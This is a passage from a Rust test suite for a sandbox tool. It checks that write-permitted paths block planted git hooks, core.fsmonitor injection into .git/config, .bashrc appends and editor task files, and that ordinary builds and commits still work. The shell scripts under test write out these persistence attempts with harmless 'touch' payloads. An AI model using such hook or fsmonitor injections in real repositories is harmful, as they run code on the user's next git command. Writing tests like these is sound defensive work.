        printf 'ref: refs/heads/main\n' > old-plain/HEAD
        fill by-mknod && python3 -c 'import os, stat; os.mknod("by-mknod/HEAD", stat.S_IFREG | 0o644)'
        fill by-symlink && ln -s refs/heads/main by-symlink/HEAD
        for i in $(seq 300); do mkdir -p "many/$i" && : > "many/$i/HEAD"; done
        fill late && : > late/HEAD
        python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def exchange(a, b):
    return libc.renameat2(-100, a.encode(), -100, b.encode(), 2) == 0
open("f", "w").close()
print("exchange-objects", exchange("f", "nested/.git/objects"))
os.makedirs("p1"); os.makedirs("p2")
print("exchange-plain", exchange("p1", "p2"))
'
        { printf '[core]\n\tfsmonitor = false\n' >> nested/.git/config; } 2>/dev/null && echo BAD-config || true
    "#;
    let out = run(&w.root, &[], script);
    let stdout = ok(&out);
    assert!(stdout.contains("exchange-objects False"), "{stdout}");
    assert!(stdout.contains("exchange-plain True"), "twin: {stdout}");
    assert!(!stdout.contains("BAD"), "{stdout}");
    let err = String::from_utf8_lossy(&out.stderr);
    for at in ["old-plain", "by-mknod", "by-symlink", "late"] {
        let at = format!("at {}/{at} whose core.fsmonitor", w.root.display());
        assert!(err.contains(&at), "{at}: {err}");
    }
}

/// `sandbox run -w DIR` (no mode) in `dir`, as root or as nobody (the
/// directory given to nobody first), with git's identity set and `dir` as
/// the home directory's parent's sibling (HOME is elsewhere).
fn plain_w(dir: &Path, nobody: bool, extra: &[&str], script: &str) -> Output {
    let mut cmd = if nobody {
        let chown = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(dir)
            .status()
            .unwrap();
        assert!(chown.success());
        sandbox_tests::sandbox_as_nobody()
    } else {
        sandbox()
    };
    cmd.args(["run", "-w"])
        .arg(dir)
        .args(extra)
        .args(["--", "/bin/sh", "-c", script])
        .current_dir(dir)
        .env("HOME", "/nonexistent-home")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .unwrap()
}

/// A write path that is a git directory itself (`-w repo/.git`), a folder
/// of bare repositories, and a folder with more entries than the look for
/// clones reads (a run could fill a folder of clones to hide one from the
/// next run's look) each get the protections: before, the run wrote
/// `core.fsmonitor` into `-w repo/.git`'s config (run by the user's next
/// git command) and a hook into a bare repository. Twins in the same runs:
/// an object is written into the git directory, a file beside the clones.
/// As root and as nobody.
#[test]
fn git_directories_and_hidden_clones_in_write_paths_are_protected() {
    let users: &[bool] = if unsafe { libc::geteuid() } == 0 {
        &[false, true]
    } else {
        &[false]
    };
    let chown = |dir: &Path| {
        let st = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(dir)
            .status()
            .unwrap();
        assert!(st.success());
    };
    for &nobody in users {
        // -w repo/.git
        let w = ws();
        git_ok(&w.root, &["init", "-q", "-b", "main", "."]);
        if nobody {
            chown(&w.root);
        }
        let git_dir = w.root.join(".git");
        let config = fs::read(git_dir.join("config")).unwrap();
        let stdout = ok(&plain_w(
            &git_dir,
            nobody,
            &[],
            r#"{ printf '[core]\n\tfsmonitor = "touch ran"\n' >> config; } 2>/dev/null && echo BAD-config
               { echo '#!/bin/sh' > hooks/pre-commit; } 2>/dev/null && echo BAD-hook
               echo hi | git --git-dir=. hash-object -w --stdin >/dev/null && echo ok-object"#,
        ));
        assert!(!stdout.contains("BAD"), "nobody {nobody}: {stdout}");
        assert!(
            stdout.contains("ok-object"),
            "twin, nobody {nobody}: {stdout}"
        );
        assert_eq!(fs::read(git_dir.join("config")).unwrap(), config);
        assert!(!git_dir.join("hooks/pre-commit").exists());

        // A folder of bare repositories.
        let bare = ws();
        git_ok(&bare.root, &["init", "-q", "--bare", "lib.git"]);
        let stdout = ok(&plain_w(
            &bare.root,
            nobody,
            &[],
            "{ echo x > lib.git/hooks/post-receive; } 2>/dev/null && echo BAD; \
             echo x > f && echo ok-write",
        ));
        assert!(
            !stdout.contains("BAD") && stdout.contains("ok-write"),
            "nobody {nobody}: {stdout}"
        );
        assert!(!bare.root.join("lib.git/hooks/post-receive").exists());

        // A clone behind more entries than the look reads.
        let many = ws();
        for i in 0..4100 {
            fs::create_dir(many.root.join(format!("d{i}"))).unwrap();
        }
        git_ok(&many.root, &["init", "-q", "-b", "main", "zz"]);
        let stdout = ok(&plain_w(
            &many.root,
            nobody,
            &[],
            "{ echo x > zz/.git/hooks/post-checkout; } 2>/dev/null && echo BAD; \
             echo x > f && echo ok-write",
        ));
        assert!(
            !stdout.contains("BAD") && stdout.contains("ok-write"),
            "nobody {nobody}: {stdout}"
        );
        assert!(!many.root.join("zz/.git/hooks/post-checkout").exists());
    }
}

/// A repository deep beneath a plain write path (`src/org/repo`) is
/// protected, and so is a folder inside a working tree (`-w repo/src`):
/// there a `.git` the run makes is named after the run, since the user's
/// next git command in that folder would find it first. Twins: in the same
/// runs a file is written beside them; an output directory outside any
/// repository gets no protections. As root and as nobody.
#[test]
fn deep_repositories_and_folders_of_a_working_tree_are_protected() {
    let users: &[bool] = if unsafe { libc::geteuid() } == 0 {
        &[false, true]
    } else {
        &[false]
    };
    for &nobody in users {
        let w = ws();
        git_ok(&w.root, &["init", "-q", "-b", "main", "src/org/repo"]);
        let stdout = ok(&plain_w(
            &w.root,
            nobody,
            &[],
            "{ printf '[core]\\n\\tfsmonitor = \"touch ran\"\\n' >> src/org/repo/.git/config; } \
             2>/dev/null && echo BAD; echo x > f && echo ok-write",
        ));
        assert!(
            !stdout.contains("BAD") && stdout.contains("ok-write"),
            "nobody {nobody}: {stdout}"
        );

        let repo = ws();
        git_ok(&repo.root, &["init", "-q", "-b", "main", "."]);
        fs::create_dir(repo.root.join("src")).unwrap();
        let out = plain_w(
            &repo.root.join("src"),
            nobody,
            &[],
            "git init -q . && git config core.fsmonitor 'touch ran' && echo x > f && echo ok-write",
        );
        let stdout = ok(&out);
        assert!(stdout.contains("ok-write"), "nobody {nobody}: {stdout}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.lines().any(|l| l.starts_with("sandbox:")
                && l.contains("git repository at")
                && l.contains("/src ")),
            "the repository made in the working tree is named, nobody {nobody}: {err}"
        );
    }
    // Twin: an output directory outside any repository pays nothing.
    let out_dir = ws();
    fs::create_dir_all(out_dir.root.join("a/b/c")).unwrap();
    let text = ok(&sandbox()
        .args(["policy", "-w"])
        .arg(&out_dir.root)
        .output()
        .unwrap());
    assert!(text.contains("\"write_deny_paths\": []"), "{text}");
}

/// Plain `-w REPO`, in no mode, protects what workspace-write protects: a
/// planted hook, a `.git/config` change, an rc file and editor settings are
/// refused, and so is a hook in a clone one level down in `-w DIR`; in the
/// same runs a commit, a branch and a build work. Twins: a write path that
/// holds nothing worth protecting gets no deny path (it pays nothing), so a
/// `.bashrc` there is written; `--unprotect .bashrc` lifts that one
/// protection and keeps the rest. As root and as nobody.
#[test]
fn plain_write_paths_protect_what_the_workspace_protects() {
    let attacks = r#"
        bad() { echo "BAD: $1"; }
        { echo '#!/bin/sh' > .git/hooks/pre-commit; } 2>/dev/null && bad "hook"
        { printf '[core]\n\tfsmonitor = "touch %s/ran"\n' "$PWD" >> .git/config; } 2>/dev/null && bad "config"
        { echo 'touch ran' >> .bashrc; } 2>/dev/null && bad "bashrc"
        { mkdir -p .vscode && echo '{}' > .vscode/tasks.json; } 2>/dev/null && bad "vscode"
        printf 'all:\n\techo built > out.txt\n' > Makefile && make -s && echo ok-build
        git add Makefile out.txt && git commit -qm build && echo ok-commit
        git checkout -q -b topic && echo ok-branch
    "#;
    let users: &[bool] = if unsafe { libc::geteuid() } == 0 {
        &[false, true]
    } else {
        &[false]
    };
    for &nobody in users {
        let w = ws();
        git_ok(&w.root, &["init", "-q", "-b", "main", "."]);
        let config = fs::read(w.root.join(".git/config")).unwrap();
        let stdout = ok(&plain_w(&w.root, nobody, &[], attacks));
        assert!(!stdout.contains("BAD"), "nobody {nobody}: {stdout}");
        for twin in ["ok-build", "ok-commit", "ok-branch"] {
            assert!(stdout.contains(twin), "nobody {nobody}: {twin} in {stdout}");
        }
        assert_eq!(fs::read(w.root.join(".git/config")).unwrap(), config);
        assert!(!w.root.join(".git/hooks/pre-commit").exists());
        assert!(!w.root.join(".bashrc").exists());
        git_ok(&w.root, &["-c", "safe.directory=*", "status"]);
        assert!(!w.root.join("ran").exists());

        // A folder of clones: the repository one level down is protected.
        let clones = ws();
        git_ok(&clones.root, &["init", "-q", "-b", "main", "lib"]);
        let out = plain_w(
            &clones.root,
            nobody,
            &[],
            "{ echo x > lib/.git/hooks/post-checkout; } 2>/dev/null && echo BAD; \
             echo x > lib/f && echo ok-write",
        );
        let stdout = ok(&out);
        assert!(
            !stdout.contains("BAD") && stdout.contains("ok-write"),
            "{stdout}"
        );
        assert!(!clones.root.join("lib/.git/hooks/post-checkout").exists());

        // Twin: a write path with nothing to protect gets no deny path.
        let out_dir = ws();
        let policy = sandbox()
            .args(["policy", "-w"])
            .arg(&out_dir.root)
            .output()
            .unwrap();
        let text = ok(&policy);
        assert!(text.contains("\"write_deny_paths\": []"), "{text}");
        assert!(!text.contains("protect_git_dirs"), "{text}");
        ok(&plain_w(&out_dir.root, nobody, &[], "echo x > .bashrc"));
        assert!(out_dir.root.join(".bashrc").exists());

        // Twin: --unprotect lifts one protection, the others stay.
        let stdout = ok(&plain_w(
            &w.root,
            nobody,
            &["--unprotect", ".bashrc"],
            "echo x > .bashrc && echo ok-rc; \
             { echo x > .git/hooks/pre-commit; } 2>/dev/null && echo BAD; true",
        ));
        assert!(
            stdout.contains("ok-rc") && !stdout.contains("BAD"),
            "{stdout}"
        );
    }
    // A name that is no default protection is refused, not ignored.
    let w = ws();
    let out = plain_w(&w.root, false, &["--unprotect", ".bashrcx"], "true");
    assert_eq!(out.status.code(), Some(125));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("\".bashrcx\", which is no default protection"),
        "{err}"
    );
}
